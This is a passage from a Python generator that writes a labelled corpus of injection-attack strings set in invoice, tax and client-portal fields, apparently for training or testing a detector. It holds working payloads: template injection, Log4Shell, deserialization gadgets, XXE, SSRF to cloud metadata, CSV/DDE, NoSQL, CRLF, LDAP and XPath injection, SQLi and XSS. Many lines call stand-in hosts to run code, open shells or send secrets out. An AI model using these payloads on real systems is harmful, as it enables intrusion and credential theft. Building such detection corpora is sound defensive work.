    ("receipt-url-loopback+urlenc-host", "http://%31%32%37%2e%30%2e%30%2e%31:8080/admin"),
    ("receipt-url-metadata+enclosed-alphanumerics", "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/meta-data/"),
    ("webhook-unspecified-address", "http://0.0.0.0:8000/admin"),
    ("pdf-render-iframe-metadata", "<iframe src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" width=\"900\" height=\"600\"></iframe>"),
    ("pdf-render-iframe-file", "<iframe src=\"file:///etc/passwd\" width=\"900\" height=\"900\"></iframe>"),
    ("json-receipt-url", "{\"receipt_url\": \"http://169.254.169.254/latest/meta-data/\", \"invoice\": \"INV-2024-0091\"}"),
    ("receipt-url-zero-padded-ip", "http://127.000.000.001/admin"),
    ("calendar-url-crlf-header-smuggle", "http://169.254.169.254/computeMetadata/v1/ HTTP/1.1\r\nMetadata-Flavor: Google\r\nX-Ignore:"),
    ("plain-metadata", "http://169.254.169.254/"),
    ("plain-localhost", "http://localhost/admin"),
    ("plain-file-windows", "file:///c:/windows/win.ini"),
    ("bank-feed-url-ldap-scheme", "ldap://127.0.0.1:389/dc=firm,dc=example??sub?(objectClass=*)"),
    ("plain-loopback-ip", "http://127.0.0.1/"),
    ("plain-ipv6-loopback", "http://[::1]:22/"),
]

LITERALS["code"] = [
    ("invoice-template-jinja2-globals", "Thank you for your business! {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("email-template-jinja2-cycler", "Dear {{ client.name }}, {{ cycler.__init__.__globals__.os.popen('curl -s attacker.example/j|sh').read() }}"),
    ("email-template-jinja2-config", "Hi {{ config.items() }}, your return is ready."),
    ("invoice-template-jinja2-attr+hex-escape", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("invoice-template-jinja2-subclasses", "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__=='Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("email-template-jinja2-lipsum", "Balance due: {{ lipsum.__globals__['os'].environ }}"),
    ("invoice-template-twig-filter", "Total: {{ ['cat /etc/passwd']|filter('system') }}"),
    ("invoice-template-twig-map", "{{ ['id']|map('passthru')|join }}"),
    ("invoice-template-freemarker-execute", "<#assign run=\"freemarker.template.utility.Execute\"?new()>${run(\"id\")}"),
    ("email-template-velocity-runtime", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("invoice-template-erb-backticks", "Invoice total: <%= `id` %>"),
    ("invoice-template-erb-file-read", "<%= File.read('/etc/passwd') %>"),
    ("invoice-template-mako-expression", "${__import__('os').popen('id').read()}"),
    ("invoice-template-mako-block", "<% import os; x=os.popen('uname -a').read() %>${x}"),
    ("invoice-template-smarty-function", "Your fee: {system('id')}"),
    ("invoice-template-smarty-php-tag", "{php}echo `id`;{/php}"),
    ("view-name-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("memo-spel", "#{T(java.lang.Runtime).getRuntime().exec('curl -s attacker.example/s')}"),
    ("memo-el-processbuilder", "${new java.lang.ProcessBuilder(['sh','-c','id']).start()}"),
    ("search-ognl", "%{(#r=@java.lang.Runtime@getRuntime()).(#r.exec('id'))}"),
    ("invoice-template-pebble", "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}"),
    ("email-template-nunjucks", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("invoice-template-groovy", "${'id'.execute().text}"),
    ("invoice-template-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\r.txt\")"),
    ("client-name-log4shell", "${jndi:ldap://attacker.example:1389/a}"),
    ("memo-log4shell-lookup-nesting", "Refund ${${lower:j}${lower:n}${lower:d}i:ldap://203.0.113.66/a}"),
    ("question-log4shell-default-value", "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/o}"),
    ("user-agent-log4shell-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x.attacker.example}"),
    ("invoice-log4shell-env-default", "INV-${${env:NOPE:-j}ndi${env:NOPE:-:}ldaps://attacker.example/z}"),
    ("search-log4shell+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fq%7D"),
    ("memo-log4shell-lower-scheme", "${jndi:${lower:L}dap://attacker.example/a}"),
    ("journal-log4shell-multiline", "Dr Cash 500.00\nCr Revenue 500.00\nMemo: ${jndi:ldap://203.0.113.66:1389/je}"),
    ("session-pickle", "cos\nsystem\n(S'curl -s attacker.example/p|sh'\ntR."),
    ("session-pickle+base64", "Y29zCnN5c3RlbQooUydjdXJsIC1zIGF0dGFja2VyLmV4YW1wbGUvcHxzaCcKdFIu"),
    ("coa-yaml-import-pyyaml-apply", "!!python/object/apply:os.system ['curl -s attacker.example/y | sh']"),
    ("coa-yaml-import-pyyaml-subprocess", "accounts:\n  - 6000 Rent\n  - !!python/object/apply:subprocess.check_output [['id']]"),
    ("session-php-object", "O:13:\"InvoiceLogger\":1:{s:7:\"logfile\";s:27:\"/var/www/html/uploads/x.php\";}"),
    ("filename-phar-wrapper", "phar:///var/www/portal/uploads/receipt_4471.jpg/x"),
    ("json-body-jackson-gadget", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}]"),
    ("json-body-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://attacker.example:1099/x\",\"autoCommit\":true}"),
    ("json-body-jsonnet-type", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd.exe\",\"/c curl -s http://203.0.113.12/n|cmd\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("json-body-node-serialize", "{\"prefs\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id > /tmp/ns')}()\"}"),
    ("coa-yaml-import-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("einvoice-xml-xxe-file", "<?xml version=\"1.0\"?>\n<!DOCTYPE Invoice [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<Invoice><ID>INV-2024-0091</ID><Note>&x;</Note></Invoice>"),
    ("einvoice-xml-xxe-oob-parameter", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"https://attacker.example/e.dtd\"> %d;]><r/>"),
    ("statement-xml-xxe-ssrf", "<!DOCTYPE Statement [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><Statement><Memo>&m;</Memo></Statement>"),
    ("einvoice-xml-xinclude", "<Invoice xmlns:xi=\"http://www.w3.org/2001/XInclude\"><Note><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></Note></Invoice>"),
    ("logo-svg-xxe", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY k SYSTEM \"file:///home/portal/.ssh/id_rsa\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text y=\"20\">&k;</text></svg>"),
    ("einvoice-xml-entity-expansion", "<!DOCTYPE l [<!ENTITY a \"1234.56\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">]><Total>&g;</Total>"),
    ("einvoice-xml-xxe-expect", "<!DOCTYPE r [<!ENTITY x SYSTEM \"expect://id\">]><r>&x;</r>"),
    ("einvoice-xslt-java-extension", "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:rt=\"http://xml.apache.org/xalan/java/java.lang.Runtime\"><xsl:template match=\"/\"><xsl:variable name=\"r\" select=\"rt:getRuntime()\"/><xsl:value-of select=\"rt:exec($r,'id')\"/></xsl:template></xsl:stylesheet>"),
    ("settings-json-proto", "{\"theme\":\"dark\",\"__proto__\":{\"isAdmin\":true}}"),
    ("settings-json-constructor-prototype", "{\"constructor\":{\"prototype\":{\"role\":\"partner\"}}}"),
    ("query-proto-bracket", "__proto__[canExportAllClients]=true"),
    ("settings-json-proto-child-process", "{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}"),
    ("settings-json-proto-ejs", "{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('curl -s attacker.example/e|sh');x\"}}"),
    ("query-proto-constructor+urlenc", "constructor%5Bprototype%5D%5BisAdmin%5D=true"),
    ("export-cell-dde", "=cmd|'/C powershell -nop -c iwr http://203.0.113.12/a.ps1|iex'!A1"),
    ("export-cell-hyperlink-exfil", "=HYPERLINK(\"https://attacker.example/t?d=\"&B2&C2,\"Click to verify refund\")"),
    ("export-cell-importxml-exfil", "=IMPORTXML(\"https://attacker.example/x?\"&JOIN(\",\",B2:B40),\"//p\")"),
    ("export-cell-webservice-exfil", "=WEBSERVICE(\"https://attacker.example/w?\"&ENCODEURL(D2))"),
    ("export-cell-at-dde", "@SUM(2+2)*cmd|' /C notepad'!Z9"),
    ("export-cell-plus-dde", "+cmd|' /C whoami'!A1"),
    ("export-cell-minus-dde", "-2+3+cmd|' /C mshta http://203.0.113.12/h.hta'!A0"),
    ("export-cell-image-exfil", "=IMAGE(\"https://attacker.example/px?\"&A1&\"-\"&B1)"),
    ("amount-calc-python-eval", "__import__('os').popen('id').read()"),
    ("amount-calc-python-eval-conditional", "1200*1.19 if __import__('os').system('curl -s attacker.example/c|sh') else 0"),
    ("formula-node-eval", "require('child_process').execSync('id').toString()"),
    ("formula-node-eval-fs", "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("memo-php-complex-interpolation", "{${system('id')}}"),
    ("memo-ruby-interpolation", "#{`id`}"),
    ("note-ssi-exec", "<!--#exec cmd=\"id\" -->"),
    ("note-esi-include", "<esi:include src=\"http://169.254.169.254/latest/meta-data/\"/>"),
    ("invoice-template-jinja2+urlenc", "%7B%7Bconfig.__class__.__init__.__globals__%5B'os'%5D.popen('id').read()%7D%7D"),
    ("plain-log4shell", "${jndi:ldap://203.0.113.66/x}"),
    ("plain-spel", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("plain-xxe", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/shadow\">]><x>&e;</x>"),
    ("plain-proto", "{\"__proto__\":{\"admin\":true}}"),
    ("plain-csv-dde", "=cmd|' /C calc'!A0"),
]

LITERALS["nosqli"] = [
    ("login-json-ne", "{\"email\":\"marta@client.example\",\"password\":{\"$ne\":\"\"}}"),
    ("login-json-regex-exists", "{\"email\":{\"$regex\":\"^adm\"},\"password\":{\"$exists\":true}}"),
    ("invoice-json-gt", "{\"invoice_no\":{\"$gt\":\"\"}}"),
    ("client-id-query-ne", "client_id[$ne]=0"),
    ("login-query-regex", "email=partner%40firm.example&password[$regex]=^p.*"),
    ("filter-json-where-sleep", "{\"$where\":\"this.client_id != 4471 || sleep(5000)\"}"),
    ("invoice-where-string-tautology", "INV-0091' || '1'=='1"),
    ("invoice-where-string-time", "INV-0091' || sleep(6000) || '"),
    ("filter-json-or", "{\"tax_year\":2024,\"$or\":[{\"owner\":\"me\"},{\"owner\":{\"$exists\":true}}]}"),
    ("filter-json-expr", "{\"$expr\":{\"$gt\":[{\"$strLenCP\":\"$ssn\"},0]}}"),
    ("filter-json-function", "{\"$expr\":{\"$function\":{\"body\":\"function(){ sleep(3000); return true }\",\"args\":[],\"lang\":\"js\"}}}"),
    ("report-pipeline-lookup", "[{\"$lookup\":{\"from\":\"portal_users\",\"localField\":\"owner\",\"foreignField\":\"_id\",\"as\":\"u\"}},{\"$project\":{\"u.password_hash\":1,\"u.email\":1}}]"),
    ("filter-json-where-regex-blind", "{\"$where\":\"this.api_key.match(/^sk_a/) && sleep(2000)\"}"),
    ("login-form-ne+urlenc", "email=admin%40firm.example&password%5B%24ne%5D=x"),
    ("login-json-in-gt", "{\"username\":{\"$in\":[\"admin\",\"partner\",\"owner\"]},\"password\":{\"$gt\":\"\"}}"),
    ("category-json-nin", "{\"category\":{\"$nin\":[]}}"),
    ("invoice-json-ne+unicode-escape", "{\"invoice_no\":{\"\\u0024ne\":null}}"),
    ("search-mango-selector", "{\"selector\":{\"client_id\":{\"$gt\":null}},\"fields\":[\"ssn\",\"iban\"]}"),
    ("search-es-query-string", "staples OR client_id:* OR _exists_:ssn"),
    ("login-json-not-eq", "{\"email\":\"partner@firm.example\",\"password\":{\"$not\":{\"$eq\":\"x\"}}}"),
    ("filter-query-gte-exists", "tax_year[$gte]=0&client_id[$exists]=true"),
    ("plain-ne-null", "{\"$ne\": null}"),
    ("plain-where-true", "{\"$where\": \"return true\"}"),
    ("login-json-type", "{\"email\":\"partner@firm.example\",\"password\":{\"$type\":2}}"),
    ("plain-gt-empty", "{\"$gt\": \"\"}"),
]

LITERALS["crlf"] = [
    ("log-memo-lf-forge", "Paid INV-2024-0091\n2024-04-15T10:22:01Z INFO [audit] user=admin action=refund_approved amount=9800.00 client=4471"),
    ("log-memo-crlf-forge", "Rent April\r\n2024-04-15 10:22:03,118 INFO portal.auth - login succeeded for user=partner ip=10.0.0.7"),
    ("header-filename-set-cookie", "W2_2024.pdf\r\nSet-Cookie: session=fixed-by-attacker; Path=/"),
    ("header-filename-response-splitting", "statement.pdf\"\r\nContent-Type: text/html\r\n\r\n<script>alert(document.domain)</script>"),
    ("header-redirect-set-cookie+urlenc", "%0d%0aSet-Cookie:%20portal_sid=fixed123;%20Path=/"),
    ("header-redirect-location+urlenc", "/dashboard%0d%0aLocation:%20https://attacker.example/login"),
    ("header-redirect+utf8-crlf", "/dashboard%E5%98%8A%E5%98%8DSet-Cookie:%20x=y"),
    ("mail-subject-bcc", "Question about Q3 VAT\r\nBcc: everyone@attacker.example"),
    ("mail-from-name-cc", "Marta Lopez\nCc: list@attacker.example\nX-Priority: 1"),
    ("mail-subject-body-override", "Reminder\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/pay>Pay your balance</a>"),
    ("mail-rcpt-smtp-injection", "client@client.example>\r\nRCPT TO:<drop@attacker.example"),
    ("mail-body-smtp-smuggling", "Thanks!\r\n.\r\nMAIL FROM:<notices@firm.example>\r\nRCPT TO:<victim@client.example>\r\nDATA\r\nSubject: Urgent refund\r\n\r\nClick https://attacker.example/r\r\n.\r\n"),
    ("log-json-field-forging", "ok\",\"level\":\"INFO\",\"user\":\"admin\",\"msg\":\"password changed"),
    ("log-ansi-escape", "INV-0091\x1b[2J\x1b[1;1HAll checks passed"),
    ("log-syslog-forge", "x\n<13>Apr 15 10:22:01 portal sshd[812]: Accepted password for root from 10.0.0.2 port 50122 ssh2"),
    ("export-row-injection", "Office supplies\r\n4471,2024-04-15,REFUND,-9800.00,approved"),
    ("webhook-header-value-injection", "application/json\r\nX-Forwarded-For: 127.0.0.1"),
    ("header-lang-lf-set-cookie", "en-US\nSet-Cookie: lang=x; Domain=.firm.example; Max-Age=31536000"),
    ("header-redirect+double-urlenc", "%250d%250aSet-Cookie:%2520admin%3D1"),
    ("header-full-response-splitting", "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 39\r\n\r\n<script>alert(document.domain)</script>"),
    ("log-cr-overwrite", "Paid\r2024-04-15 10:22:01 INFO login ok user=cfo"),
    ("log-note-audit-forge", "Approved per phone call.\n[2024-04-16 09:01:44] AUDIT partner=S.Klein approved write-off INV-2023-0417 $12,400.00"),
    ("header-xff-injection", "203.0.113.50\r\nX-Real-IP: 127.0.0.1"),
    ("plain-crlf-set-cookie", "\r\nSet-Cookie: admin=1"),
    ("plain-lf-header+urlenc", "%0aX-Injected: 1"),
    ("plain-log-forge", "\n[INFO] user admin logged in"),
    ("mail-reply-to-injection", "Dev Patel <dev@client.example>\r\nReply-To: billing@attacker.example"),
    ("log-filename-forge", "receipt.pdf\n2024-04-15 10:22:05 WARN av-scan: receipt.pdf clean (0 threats)"),
    ("header-content-disposition-csp", "invoice.pdf\nContent-Security-Policy: script-src * 'unsafe-inline'"),
    ("log-newline+urlenc", "INV-0091%0a2024-04-15%2010:22:01%20INFO%20user=admin%20export=all_clients"),
    ("plain-crlf-location+urlenc", "%0d%0aLocation: https://attacker.example/"),
]

LITERALS["ldap-xpath"] = [
    ("login-ldap-always-true", "admin)(&)"),
    ("directory-ldap-wildcard-or", "*)(|(objectClass=*)"),
    ("directory-ldap-blind-attribute", "*)(userPassword=a*"),
    ("directory-ldap-mail-enum", "Rivera*)(mail=*@firm.example"),
    ("login-ldap-nul+urlenc", "admin)%00"),
    ("directory-ldap-group-membership", "*)(memberOf=cn=Partners,ou=Groups,dc=firm,dc=example"),
    ("directory-ldap-close-and-or", "Schmidt*))(|(cn=*"),
    ("directory-ldap-employee-type", "4471)(|(employeeType=partner)(employeeType=*"),
    ("taxid-xpath-tautology", "DE318472905' or '1'='1"),
    ("xpath-union-nodes", "'] | //client/iban | //x['"),
    ("xpath-boolean-count", "' or count(//client)>100 or 'a'='b"),
    ("xpath-blind-substring", "x' or substring(//user[role='admin']/password,1,1)='s' or 'a'='b"),
    ("xpath-root-name", "' or name(/*)='ledger' or '"),
    ("invoice-xpath-numeric-tautology", "4471 or 1=1"),
    ("xpath-blind-string-length", "x' or string-length(//user[1]/password)=12 and '1'='1"),
    ("xpath-doc-oob", "' or doc(concat('https://attacker.example/x?',//user[1]/password)) or '"),
    ("xpath-structure-probe", "' and name(/*[1]/*[2])='passwords' and ''='"),
    ("xpath-comment-node-read", "x'] | //comment() | //*['"),
    ("plain-ldap-filter-break", "*)(uid=*))(|(uid=*"),
    ("plain-xpath-tautology", "' or ''='"),
    ("client-name-xpath-dq-tautology", "Rivera\" or \"1\"=\"1"),
    ("plain-ldap-wildcard-close", "*)(cn=*"),
    ("plain-xpath-paren-tautology", "') or ('1'='1"),
]

# ---------------------------------------------------------------------------
# Hand-written pools for the small templates
# ---------------------------------------------------------------------------

# (context, domain text the attack is appended to)
SQL_PREFIXES = [("memo", "POS PURCHASE 04/12 STAPLES"), ("memo", "ZELLE TO RUIZ drywall"),
                ("invoice", "INV-2024-00871"), ("invoice", "RE-2024-0193"),
                ("search", "union dues"), ("search", "home office"),
                ("category", "Travel - lodging"), ("client-name", "Kowalski Bakery")]
# (technique, tail appended after the closing quote)
SQL_TAILS = [("union-select", "' UNION SELECT tin, bank_iban FROM clients-- -"),
             ("boolean-tautology", "' OR 'a'<>'b"),
             ("time-blind", "' AND SLEEP(5)-- -"),
             ("time-blind", "'; WAITFOR DELAY '0:0:6'--"),
             ("stacked-update", "'; UPDATE portal_users SET role='admin' WHERE email='ops@attacker.example'--"),
             ("error-cast", "' AND 1=CAST((SELECT pw_hash FROM staff LIMIT 1) AS int)-- "),
             ("boolean-subquery", "' AND (SELECT COUNT(*) FROM portal_users WHERE role='admin')>0 AND 'z'='z")]

XSS_PREFIXES = [("note", "Receipts for March attached."), ("question", "Is this deductible?"),
                ("memo", "SQ *BLUE BOTTLE COFFEE"), ("client-name", "Tanaka Design"),
                ("line-item", "Office supplies - $189.98"), ("multilingual-note", "Facture jointe :")]
XSS_PAYLOADS = [("img-onerror", "<img src=x onerror=alert(document.domain)>"),
                ("svg-onload", "<svg onload=fetch('//attacker.example/n?'+document.cookie)>"),
                ("script-src", "<script src=//attacker.example/p.js></script>"),
                ("iframe-js-uri", "<iframe src=javascript:alert(origin)>"),
                ("details-ontoggle", "<details open ontoggle=alert(1)>"),
                ("input-autofocus", "<input autofocus onfocus=alert(document.cookie)>")]

CMD_FILENAMES = ["receipt_2024-04-02.pdf", "W-2 Acme.pdf", "IMG_4471.HEIC", "bank_stmt_03.csv",
                 "1099-B_Schwab.pdf", "mileage.xlsx"]
CMD_SUFFIXES = [("semicolon", "; curl -s attacker.example/r|sh"),
                ("cmdsub", "$(id>/tmp/.r)"),
                ("backticks", "`sleep 8`"),
                ("pipe", "|nc 203.0.113.20 9001 -e /bin/sh"),
                ("and-chain", " && wget -qO- 198.51.100.4/b|sh"),
                ("newline", "\nid")]

TRAV_TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ", "root/.bash_history",
                "var/www/portal/.env", "home/portal/.pgpass"]
TRAV_PREFIXES = ["receipts/2024/", "", "uploads/4471/", "statements/"]

SSRF_INTERNAL = [("metadata", (169, 254, 169, 254), "/latest/meta-data/iam/security-credentials/"),
                 ("loopback", (127, 0, 0, 1), ":8080/admin"),
                 ("private", (10, 0, 0, 12), ":5000/internal/export"),
                 ("private", (192, 168, 10, 5), "/cgi-bin/config.exp")]
SSRF_CONTEXTS = ["receipt-url", "webhook", "einvoice-url", "logo-url"]

CODE_PREFIXES = [("invoice-template", "Thanks for your payment of $1,250.00! "),
                 ("email-template", "Hi {{ client.first_name }}, "),
                 ("client-name", "Henderson Roofing LLC "),
                 ("memo", "Estimated tax Q3 ")]
CODE_PAYLOADS = [("jinja2-popen", "{{ url_for.__globals__.os.popen('id').read() }}"),
                 ("log4shell", "${jndi:ldap://198.51.100.9:1389/t}"),
                 ("spel", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
                 ("freemarker-execute", "<#assign e=\"freemarker.template.utility.Execute\"?new()>${e(\"id\")}")]

NOSQL_FIELDS = ["invoice_no", "client_id", "tax_year", "email", "category"]
NOSQL_OPS = [("ne", "{\"$ne\":null}"), ("gt", "{\"$gt\":\"\"}"), ("regex", "{\"$regex\":\".*\"}"),
             ("exists", "{\"$exists\":true}")]

# (context, domain text, [(technique, injected tail), ...]) - each injection fits its sink
CRLF_CASES = [
    ("log-memo", "Paid INV-2024-0311",
     [("log-forge", "\n2024-04-15 11:02:44 INFO refund approved by partner amount=7200.00"),
      ("log-forge-crlf", "\r\n2024-04-15 11:02:45 INFO user=partner action=export_all_clients")]),
    ("header-filename", "1099-B.pdf",
     [("set-cookie", "\r\nSet-Cookie: portal_sid=attacker-fixed; Path=/"),
      ("location", "\r\nLocation: https://attacker.example/portal")]),
    ("mail-subject", "Re: missing 1098",
     [("bcc", "\r\nBcc: leak@attacker.example"), ("cc", "\nCc: leak@attacker.example")]),
]

LDAP_NAMES = ["Okafor", "Lopez", "Henderson", "Brookside"]
LDAP_TAILS = [("ldap-wildcard-or", "*)(|(cn=*"), ("ldap-attribute-probe", "*)(userPassword=*")]

# ---------------------------------------------------------------------------
# Small template functions: each returns (class, value)
# ---------------------------------------------------------------------------


def urlenc(text):
    return quote(text, safe="")


def t_sqli(rng):
    ctx, prefix = rng.choice(SQL_PREFIXES)
    tech, tail = rng.choice(SQL_TAILS)
    if rng.random() < 0.25:
        return f"{ctx}-{tech}+urlenc", urlenc(prefix + tail)
    return f"{ctx}-{tech}", prefix + tail


def t_xss(rng):
    ctx, prefix = rng.choice(XSS_PREFIXES)
    tech, payload = rng.choice(XSS_PAYLOADS)
    return f"{ctx}-{tech}", f"{prefix} {payload}"


def t_cmdi(rng):
    name = rng.choice(CMD_FILENAMES)
    tech, suffix = rng.choice(CMD_SUFFIXES)
    return f"filename-{tech}", name + suffix


def t_traversal(rng):
    depth = rng.randint(3, 8)
    prefix = rng.choice(TRAV_PREFIXES)
    target = rng.choice(TRAV_TARGETS)
    extra = prefix.count("/")
    path = prefix + "../" * (depth + extra) + target
    if rng.random() < 0.4:
        return "receipt-path-dotdot+urlenc", urlenc(path)
    return "receipt-path-dotdot", path


def t_ssrf(rng):
    label, (a, b, c, d), tail = rng.choice(SSRF_INTERNAL)
    ctx = rng.choice(SSRF_CONTEXTS)
    form = rng.randrange(3)
    if form == 0:
        host, enc = str((a << 24) | (b << 16) | (c << 8) | d), "decimal-ip"
    elif form == 1:
        host, enc = "0x%02x%02x%02x%02x" % (a, b, c, d), "hex-ip"
    else:
        host, enc = ".".join("0%o" % x for x in (a, b, c, d)), "octal-ip"
    return f"{ctx}-{label}+{enc}", f"http://{host}{tail}"


def t_code(rng):
    ctx, prefix = rng.choice(CODE_PREFIXES)
    tech, payload = rng.choice(CODE_PAYLOADS)
    return f"{ctx}-{tech}", prefix + payload


def t_nosqli(rng):
    field = rng.choice(NOSQL_FIELDS)
    tech, op = rng.choice(NOSQL_OPS)
    return f"json-{tech}-operator", "{\"" + field + "\":" + op + ",\"tax_year\":2024}"


def t_crlf(rng):
    ctx, prefix, injections = rng.choice(CRLF_CASES)
    tech, inj = rng.choice(injections)
    return f"{ctx}-{tech}", prefix + inj


def t_ldap_xpath(rng):
    name = rng.choice(LDAP_NAMES)
    tech, tail = rng.choice(LDAP_TAILS)
    return f"directory-{tech}", name + tail


TEMPLATES = {
    "sqli": t_sqli, "xss": t_xss, "cmdi": t_cmdi, "traversal": t_traversal, "ssrf": t_ssrf,
    "code": t_code, "nosqli": t_nosqli, "crlf": t_crlf, "ldap-xpath": t_ldap_xpath,
}


def build():
    rng = random.Random(SEED)
    seen = set()
    rows = []
    stats = []
    for category in CATEGORY_ORDER:
        items = []
        for cls, value in LITERALS[category]:
            if value in seen:
                raise SystemExit(f"duplicate literal in {category}: {value!r}")
            seen.add(value)
            items.append((cls, value))
        n_literal = len(items)
        attempts = 0
        while len(items) < TARGETS[category]:
            attempts += 1
            if attempts > 10000:
                raise SystemExit(f"template for {category} cannot fill {TARGETS[category]}")
            cls, value = TEMPLATES[category](rng)
            if value in seen:
                continue
            seen.add(value)
            items.append((cls, value))
        stats.append((category, len(items), n_literal))
        rows.extend((category, cls, value) for cls, value in items)
    return rows, stats


def main():
    rows, stats = build()
    out = []
    for i, (category, cls, value) in enumerate(rows, start=1):
        if not isinstance(value, str) or not value or len(value) > 1800:
            raise SystemExit(f"bad value in {category}: {value!r}")
        out.append({"id": f"{ID_PREFIX}-{i:05d}", "category": category, "class": cls,
                    "label": "attack", "value": value})
    total_lit = sum(n_lit for _, _, n_lit in stats)
    if total_lit < 0.8 * len(out):
        raise SystemExit(f"only {total_lit} literals of {len(out)}")
    benign_path = Path(__file__).with_name("benign.jsonl")
    if benign_path.exists():  # cross-file check only; never changes the output
        with open(benign_path, encoding="utf-8") as fh:
            benign_values = {json.loads(line)["value"] for line in fh}
        clash = [o["value"] for o in out if o["value"] in benign_values]
        if clash:
            raise SystemExit(f"values present in both files: {clash[:3]!r}")
    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        for obj in out:
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")
    for category, n, n_lit in stats:
        print(f"{category:12s} {n:4d}  literals {n_lit:3d}")
    n_plain = sum(1 for o in out if o["class"].startswith("plain-"))
    n_enc = sum(1 for o in out if "+" in o["class"])
    print(f"{'TOTAL':12s} {len(out):4d}  literals {total_lit:3d}  plain {n_plain}  encoded {n_enc}")
    print(f"wrote {path}")


if __name__ == "__main__":
    main()
